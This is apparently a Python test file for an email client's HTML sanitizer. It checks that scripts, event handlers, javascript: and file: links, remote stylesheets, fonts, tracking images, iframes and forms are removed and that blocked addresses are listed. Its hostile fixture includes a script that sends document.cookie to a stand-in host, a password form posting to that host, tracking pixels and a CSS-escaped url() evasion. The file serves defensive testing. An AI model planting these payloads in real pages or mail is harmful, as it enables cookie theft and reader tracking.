"""HTML sanitizing: no active content, no remote loads, every blocked address reported."""

from __future__ import annotations

import re

from app.mime.html import html_to_text, sanitize

HOSTILE = """<html><head>
<link rel="stylesheet" href="https://evil.example/style.css">
<style>
@import url("https://evil.example/import.css");
@import 'https://evil.example/import2.css';
@font-face { font-family: Spy; src: url(https://evil.example/font.woff2) format("woff2"); }
body { background: url('https://evil.example/body-bg.png'); }
</style>
<title>Title text</title>
</head>
<body onload="steal()">
<script>document.location = "https://evil.example/steal?c=" + document.cookie</script>
<p onclick="steal()" onmouseover='steal()'
   style="background:url(https://evil.example/p-bg.png); color: red">
Hello <b>reader</b></p>
<a href="javascript:alert(1)">js link</a>
<a href="JaVaScRiPt:alert(2)">mixed case js</a>
<a href="file:///etc/passwd">file link</a>
<a href="https://good.example/page">good link</a>
<img src="https://evil.example/track.gif" width="1" height="1">
<img src="http://evil.example/plain-http.gif" onerror="steal()">
<img alt="responsive" srcset="https://evil.example/small.png 1x, https://evil.example/large.png 2x">
<img src="file:///home/user/secret.png">
<img src="cid:logo@example.org" alt="logo">
<div style="background-image: url( 'https://evil.example/div-bg.png' )">div</div>
<table background="https://evil.example/table-bg.png"><tr><td>cell</td></tr></table>
<iframe src="https://evil.example/frame.html"></iframe>
<form action="https://evil.example/post"><input name="pw"></form>
</body></html>
"""

REMOTE = [
    "https://evil.example/style.css",
    "https://evil.example/import.css",
    "https://evil.example/import2.css",
    "https://evil.example/font.woff2",
    "https://evil.example/body-bg.png",
    "https://evil.example/p-bg.png",
    "https://evil.example/track.gif",
    "http://evil.example/plain-http.gif",
    "https://evil.example/small.png",
    "https://evil.example/large.png",
    "file:///home/user/secret.png",
    "https://evil.example/div-bg.png",
    "https://evil.example/table-bg.png",
    "https://evil.example/frame.html",
]


def test_sanitized_html_has_no_script_handlers_or_dangerous_urls() -> None:
    html = sanitize(HOSTILE).html
    lowered = html.lower()

    assert "<script" not in lowered
    assert "document.cookie" not in html
    assert re.search(r"\son\w+\s*=", lowered) is None
    assert "javascript:" not in lowered
    assert "file:" not in lowered
    assert "<iframe" not in lowered and "<form" not in lowered and "<input" not in lowered
    assert "<link" not in lowered and "<style" not in lowered
    assert "@import" not in lowered and "@font-face" not in lowered


def test_every_remote_reference_is_removed_from_the_output() -> None:
    html = sanitize(HOSTILE).html

    assert "evil.example" not in html
    assert "url(" not in html.lower()
    assert "srcset" not in html.lower()
    assert "background=" not in html.lower()


def test_every_remote_reference_is_listed_in_blocked() -> None:
    blocked = sanitize(HOSTILE).blocked

    assert sorted(b.strip() for b in blocked) == sorted(REMOTE)
    assert len(blocked) == len(set(blocked))


def test_harmless_content_links_and_cid_images_survive() -> None:
    html = sanitize(HOSTILE).html

    assert "Hello <b>reader</b>" in html
    assert 'href="https://good.example/page"' in html
    assert 'src="cid:logo@example.org"' in html
    assert "color: red" in html
    assert "<td>cell</td>" in html
    assert "https://good.example/page" not in sanitize(HOSTILE).blocked


def test_links_are_not_counted_as_remote_loads() -> None:
    safe = sanitize('<a href="https://example.org/a">a</a><a href="http://example.org/b">b</a>')
    assert safe.blocked == ()
    assert "rel=" in safe.html and "noopener" in safe.html


def test_srcset_after_src_in_the_same_tag_is_listed_as_blocked() -> None:
    safe = sanitize(
        '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x">'
        '<img src="cid:pic@example.org" srcset="https://evil.example/c.png 2x">'
    )

    assert "evil.example" not in safe.html
    assert 'src="cid:pic@example.org"' in safe.html
    assert sorted(safe.blocked) == [
        "https://evil.example/a.png",
        "https://evil.example/b.png",
        "https://evil.example/c.png",
    ]


def test_protocol_relative_and_uppercase_sources_are_blocked() -> None:
    safe = sanitize("<IMG SRC=//evil.example/a.png><img src=HTTPS://EVIL.EXAMPLE/B.PNG>")

    assert "evil.example" not in safe.html.lower()
    assert [b.lower() for b in safe.blocked] == [
        "//evil.example/a.png",
        "https://evil.example/b.png",
    ]


def test_css_escaped_url_function_in_a_style_attribute_is_not_kept() -> None:
    # CSS reads "\\75 rl(" as "url(": the browser engine would load it like any url().
    safe = sanitize('<p style="background:\\75rl(https://evil.example/escaped.png)">x</p>')

    assert "evil.example" not in safe.html


def test_data_images_are_kept_but_data_html_is_not() -> None:
    safe = sanitize(
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="d">'
        '<img src="data:text/html;base64,PHNjcmlwdD4=">'
    )
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in safe.html
    assert "text/html" not in safe.html


def test_html_to_text_drops_scripts_styles_and_titles() -> None:
    text = html_to_text(HOSTILE)

    assert "Hello reader" in text
    assert "cell" in text
    assert "document" not in text
    assert "@import" not in text
    assert "Title text" not in text
    assert "\n\n\n" not in text
